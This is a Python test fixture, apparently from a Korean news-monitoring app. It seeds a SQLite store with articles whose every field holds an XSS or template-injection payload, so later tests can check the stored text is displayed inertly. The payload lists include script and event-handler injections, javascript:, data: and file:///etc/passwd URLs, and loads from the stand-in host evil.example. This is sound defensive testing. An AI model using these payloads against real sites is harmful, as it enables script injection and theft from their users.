"""What bad pages could carry into the store, to be shown as text and never run. Whatever runs calls `pwned()`."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

from storage.model_search import Query
from storage.store import SqliteStore
from tests.koreawatch.web.made import NOW, article

PAYLOADS = (
    "<script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=pwned()>",
    "<img/src='x'onerror='pwned()'>",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "' onmouseover='pwned()' autofocus onfocus='pwned()' x='",
    "` onmouseover=pwned() `",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>pwned()</script>'>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()><summary>x</summary></details>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<a href=javascript:pwned()>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "{{ ''.__class__ }}{% for x in y %}{{ 7*7 }}",
    "${pwned()}#{pwned()}<%= pwned() %>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "\u202e<script>pwned()</script>\u2066",
    "<scr\x00ipt>pwned()</scr\x00ipt>",
    "\ufeff<\u0073cript>pwned()</script>",
    "＜script＞pwned()＜/script＞",
    "<mark>marked</mark> <ins>x</ins> <del>y</del>",
)
ADDRESSES = (
    "javascript:pwned()", "JaVaScRiPt:pwned()", " javascript:pwned()", "java\nscript:pwned()", "\x01javascript:pwned()",
    "data:text/html,<script>pwned()</script>", "vbscript:pwned()", "//evil.example/", "file:///etc/passwd",
    "https://ok.example/\"onmouseover='pwned()'<script>pwned()</script>",
)  # fmt: skip


def poison(store: SqliteStore) -> int:
    """An article for each payload, in every field at once, and an edit of it; a watch named so. How many articles."""
    name = "hanbit"
    for number, payload in enumerate(PAYLOADS):
        at = NOW - timedelta(minutes=5 * number + 3)
        address = ADDRESSES[number % len(ADDRESSES)]
        made = article(
            name, 9000 + number, f"{number} {payload}", f"북한 {payload} {number}번 글이다.\n\n{payload * 2}", at,
            url=f"{address}#{number}" if number % 2 else f"https://www.hanbit.example/{number}?{payload}",
            authors=(payload, "기자"), captions=(payload,), section=payload, image_url=address,
            origins={"title": payload, "text": payload},
        )  # fmt: skip
        block = replace(made.blocks[-1], text=payload, reason=payload)
        made = replace(made, blocks=(*made.blocks, block))
        store.save(made, at)
        store.save(replace(made, text=f"{made.text}\n\n고침 {payload}", title=f"{made.title} 수정"), at)
        store.add_watch(payload.replace("\x00", "").replace("\u202e", "")[:50], Query(text=payload[:100]), at)
    run = store.open_run(PAYLOADS[0], "request", NOW)
    store.enlist([(PAYLOADS[0], PAYLOADS[1], "Asia/Seoul")], NOW)
    store.update_run(run, store.runs()[0].counts)
    return len(PAYLOADS)
